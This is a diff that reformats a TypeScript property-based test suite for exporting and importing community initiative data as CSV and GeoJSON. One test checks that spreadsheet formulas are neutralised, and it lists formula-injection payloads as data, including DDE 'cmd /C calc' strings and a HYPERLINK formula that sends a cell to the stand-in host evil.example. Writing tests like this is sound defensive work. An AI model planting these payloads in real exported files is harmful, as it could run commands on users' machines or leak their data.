@@ -13,7 +13,11 @@ const runs = Number(process.env['BUURTKIT_PROPERTY_RUNS'] ?? 200);
 
 const text = (maxLength: number) =>
   fc
-    .oneof(fc.string({unit: 'grapheme', minLength: 1, maxLength}), fc.string({minLength: 1, maxLength}), fc.constantFrom("=1+1", "'=1", "''", "'s Avonds", 'a\r\nb', 'a\rb', 'a\nb', '"', ';', '-', '@x', '\uFEFFx', '＝1'))
+    .oneof(
+      fc.string({unit: 'grapheme', minLength: 1, maxLength}),
+      fc.string({minLength: 1, maxLength}),
+      fc.constantFrom('=1+1', "'=1", "''", "'s Avonds", 'a\r\nb', 'a\rb', 'a\nb', '"', ';', '-', '@x', '\uFEFFx', '＝1'),
+    )
     .map((value) => value.replaceAll('\0', '').trim().slice(0, maxLength).trim())
     .filter((value) => value !== '' && value.isWellFormed());
 const word = fc.stringMatching(/^[a-z0-9]{1,8}(?:-[a-z0-9]{1,8}){0,2}$/);
@@ -38,10 +42,20 @@ const initiatives = fc
       }),
     ),
     location: fc.option(
-      fc.record({type: fc.constant('Point' as const), coordinates: fc.tuple(fc.double({min: 3.2, max: 7.3, noNaN: true}), fc.double({min: 50.7, max: 53.7, noNaN: true}))}),
+      fc.record({
+        type: fc.constant('Point' as const),
+        coordinates: fc.tuple(fc.double({min: 3.2, max: 7.3, noNaN: true}), fc.double({min: 50.7, max: 53.7, noNaN: true})),
+      }),
     ),
-    contact: fc.record({website: maybe(fc.constant('https://www.example.nl/?a=1,2')), phone: maybe(fc.constantFrom('+31 111 123456', '0111-123456'))}).map(withoutUndefined),
-    externalIds: fc.array(fc.record({source: word, id: fc.string({minLength: 1, maxLength: 200}).filter((id) => !id.includes('\0'))}), {maxLength: 1}),
+    contact: fc
+      .record({
+        website: maybe(fc.constant('https://www.example.nl/?a=1,2')),
+        phone: maybe(fc.constantFrom('+31 111 123456', '0111-123456')),
+      })
+      .map(withoutUndefined),
+    externalIds: fc.array(fc.record({source: word, id: fc.string({minLength: 1, maxLength: 200}).filter((id) => !id.includes('\0'))}), {
+      maxLength: 1,
+    }),
   })
   .filter((candidate) => newInitiativeSchema.safeParse(candidate).success)
   .map((candidate) => newInitiativeSchema.parse(candidate) satisfies NewInitiative);
@@ -57,18 +71,21 @@ async function seeded(): Promise<TestDatabase> {
   return database;
 }
 
-test.each(['csv', 'geojson'] as const)('what the demo exports as %s comes out of an empty community the same, to the byte', async (format) => {
-  const database = await seeded();
-  const community = await findCommunity(database.database, 'den-haag');
-  if (!community) throw new Error('den-haag is gone');
-  const empty = await aCommunityScope(database, 'leeg');
-  const file = await exportText({...empty, community}, format);
+test.each(['csv', 'geojson'] as const)(
+  'what the demo exports as %s comes out of an empty community the same, to the byte',
+  async (format) => {
+    const database = await seeded();
+    const community = await findCommunity(database.database, 'den-haag');
+    if (!community) throw new Error('den-haag is gone');
+    const empty = await aCommunityScope(database, 'leeg');
+    const file = await exportText({...empty, community}, format);
 
-  const {counts} = await importFile(empty, file, format);
+    const {counts} = await importFile(empty, file, format);
 
-  expect(counts).toMatchObject({created: 2, refused: 0});
-  expect(await exportText(empty, format)).toBe(file);
-});
+    expect(counts).toMatchObject({created: 2, refused: 0});
+    expect(await exportText(empty, format)).toBe(file);
+  },
+);
 
 test.each(['csv', 'geojson'] as const)('whatever people write survives being exported and imported as %s', async (format) => {
   const database = await testDatabase();
@@ -79,7 +96,10 @@ test.each(['csv', 'geojson'] as const)('whatever people write survives being exp
     fc.asyncProperty(fc.array(initiatives, {minLength: 1, maxLength: 3}), async (some) => {
       await Promise.all([emptied(source), emptied(target)]);
       for (const [index, initiative] of some.entries())
-        await createInitiative(source, {...initiative, externalIds: (initiative.externalIds ?? []).map(({source: name, id}) => ({source: `${name}-${index}`, id}))});
+        await createInitiative(source, {
+          ...initiative,
+          externalIds: (initiative.externalIds ?? []).map(({source: name, id}) => ({source: `${name}-${index}`, id})),
+        });
       const file = await exportText(source, format);
 
       const {rows} = await importFile(target, file, format);
@@ -95,16 +115,25 @@ test.each(['csv', 'geojson'] as const)('whatever people write survives being exp
 test('a spreadsheet that opens an export runs nothing of what people wrote', async () => {
   const scope = await aCommunityScope(await testDatabase(), 'zierikzee');
   const tricks = [
-    '=cmd|\' /C calc\'!A0',
-    '+1+cmd|\' /C calc\'!A0',
-    '-2+3+cmd|\' /C calc\'!A0',
-    '@SUM(1+1)*cmd|\' /C calc\'!A0',
+    "=cmd|' /C calc'!A0",
+    "+1+cmd|' /C calc'!A0",
+    "-2+3+cmd|' /C calc'!A0",
+    "@SUM(1+1)*cmd|' /C calc'!A0",
     '=HYPERLINK("http://evil.example/?x="&A1,"klik")',
     '＝1+1',
   ];
-  for (const trick of tricks) await createInitiative(scope, {name: trick, kind: 'other', summary: {nl: trick}, externalIds: [{source: `bron-${tricks.indexOf(trick)}`, id: `\t${trick}`}]});
+  for (const trick of tricks)
+    await createInitiative(scope, {
+      name: trick,
+      kind: 'other',
+      summary: {nl: trick},
+      externalIds: [{source: `bron-${tricks.indexOf(trick)}`, id: `\t${trick}`}],
+    });
 
-  const cells = (await exportText(scope)).split('\r\n').slice(1, -1).flatMap((line) => line.split(/,(?=(?:[^"]*"[^"]*")*[^"]*$)/));
+  const cells = (await exportText(scope))
+    .split('\r\n')
+    .slice(1, -1)
+    .flatMap((line) => line.split(/,(?=(?:[^"]*"[^"]*")*[^"]*$)/));
 
   expect(cells.map((cell) => cell.replace(/^"/, '')).filter((cell) => /^[=+\-@\t\r\n＝＋－＠]/.test(cell))).toEqual([]);
   expect(cells.filter((cell) => /^"?'/.test(cell))).toHaveLength(tricks.length * 3);
@@ -112,7 +141,12 @@ test('a spreadsheet that opens an export runs nothing of what people wrote', asy
 
 test('numbers are no formulas: a longitude west of Greenwich stays a number', async () => {
   const scope = await aCommunityScope(await testDatabase(), 'bonaire');
-  await createInitiative(scope, {name: 'Koraal', kind: 'other', summary: {nl: 'Blauw'}, location: {type: 'Point', coordinates: [-68.27, 12.15]}});
+  await createInitiative(scope, {
+    name: 'Koraal',
+    kind: 'other',
+    summary: {nl: 'Blauw'},
+    location: {type: 'Point', coordinates: [-68.27, 12.15]},
+  });
 
   expect(await exportText(scope)).toContain(',-68.27,12.15,');
 });
